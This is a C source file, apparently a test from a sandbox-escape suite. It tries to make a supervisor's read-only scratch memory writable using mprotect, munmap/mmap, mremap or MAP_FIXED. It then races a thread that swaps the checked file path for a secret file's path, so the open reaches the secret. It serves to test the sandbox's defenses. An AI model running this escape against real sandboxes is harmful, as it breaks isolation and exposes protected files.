/* e0701-scratch-area - take back the supervisor's scratch memory.
 *
 * Attack: a supervisor that defeats argument races copies each checked
 * argument to scratch memory it maps into the program, read-only to it,
 * and points the call there.  If the program can make that memory
 * writable again (mprotect), or replace it with its own (munmap then
 * mmap, mremap onto it, mmap MAP_FIXED over it), the argument race of
 * e0101 works again: a thread overwrites the checked copy with the
 * secret's path while another opens the allowed file.
 * The program cannot read its own /proc/self/maps in the jail, so the
 * driver finds the scratch regions from outside: the program writes its
 * pid to scratch.ready and waits for scratch.range (lines "START END" in
 * hex, or "none").  With "none" (natively) it races on a buffer of its
 * own instead, which shows that the race itself works.
 * Source: janus team (DESIGN.md "the supervisor's own scratch memory:
 * mprotect/munmap/mremap of it"); Watson 2007.
 * Usage: e0701-scratch-area mprotect|munmap|mremap|map-fixed ALLOWED SECRET */
#include <limits.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "escape.h"

#define MAX_AREAS 16

struct area {
	char *base;
	size_t len;
};

static char own[PATH_MAX], standin[PATH_MAX];
static struct area areas[MAX_AREAS];
static int n_areas;
static const char *allowed, *secret;
static volatile int stop;

/* Overwrites every copy of the allowed path in the areas with the secret's. */
static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(allowed), ls = strlen(secret) + 1;
	while (!stop) {
		for (int i = 0; i < n_areas; i++) {
			char *p = areas[i].base, *end = p + areas[i].len;
			while (p < end && (p = memmem(p, (size_t)(end - p), allowed, la))) {
				if ((size_t)(end - p) >= ls)
					memcpy(p, secret, ls);
				p += la;
			}
		}
	}
	return NULL;
}

/* Signals the driver, reads its answer into areas[]; false for "none". */
static bool wait_ranges(void)
{
	FILE *f = fopen("scratch.ready.tmp", "w");
	if (!f)
		esc_die("scratch.ready");
	fprintf(f, "%d\n", (int)getpid());
	fclose(f);
	rename("scratch.ready.tmp", "scratch.ready");
	long long limit = esc_now_ms() + 5000;
	char text[4096];
	while (esc_now_ms() < limit) {
		if (esc_read_file("scratch.range", text, sizeof text) > 0 && strchr(text, '\n'))
			break;
		usleep(10 * 1000);
	}
	for (char *line = strtok(text, "\n"); line && n_areas < MAX_AREAS; line = strtok(NULL, "\n")) {
		unsigned long a, b;
		if (sscanf(line, "%lx %lx", &a, &b) == 2 && b > a)
			areas[n_areas++] = (struct area){ (char *)a, b - a };
	}
	return n_areas > 0;
}

/* Makes one area writable by the chosen means. */
static long take(const char *mode, const struct area *ar)
{
	char *at = ar->base;
	size_t len = ar->len;
	if (strcmp(mode, "mprotect") == 0)
		return mprotect(at, len, PROT_READ | PROT_WRITE);
	if (strcmp(mode, "munmap") == 0) {
		long r = munmap(at, len);
		esc_show_result("munmap", r);
		if (r < 0)
			return r;
		void *p = mmap(at, len, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
		return p == at ? 0 : -1;
	}
	if (strcmp(mode, "mremap") == 0) {
		void *mine = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (mine == MAP_FAILED)
			return -1;
		void *p = mremap(mine, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, at);
		return p == at ? 0 : -1;
	}
	if (strcmp(mode, "map-fixed") == 0) {
		void *p = mmap(at, len, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		return p == at ? 0 : -1;
	}
	fprintf(stderr, "unknown mode %s\n", mode);
	exit(2);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 4, "e0701-scratch-area mprotect|munmap|mremap|map-fixed ALLOWED SECRET");
	allowed = argv[2];
	secret = argv[3];
	char expect[512];
	if (esc_read_file(allowed, expect, sizeof expect) < 0)
		esc_die(allowed);
	snprintf(own, sizeof own, "%s", allowed);
	snprintf(standin, sizeof standin, "%s", allowed);
	const char *path;
	if (wait_ranges()) {
		int taken = 0;
		for (int i = 0; i < n_areas; i++) {
			char label[96];
			snprintf(label, sizeof label, "%s of the area at %p", argv[1], (void *)areas[i].base);
			long r = take(argv[1], &areas[i]);
			esc_show_result(label, r);
			if (r == 0)
				areas[taken++] = areas[i];
		}
		n_areas = taken;
		if (taken == 0)
			return 0;	/* all still protected: nothing to race on */
		path = own;	/* the supervisor copies it into an area */
	} else {
		printf("no scratch area: racing on a buffer of our own\n");
		areas[0] = (struct area){ standin, sizeof standin };
		n_areas = 1;
		path = standin;
	}
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	esc_race_open("open while the area is overwritten", path, expect);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
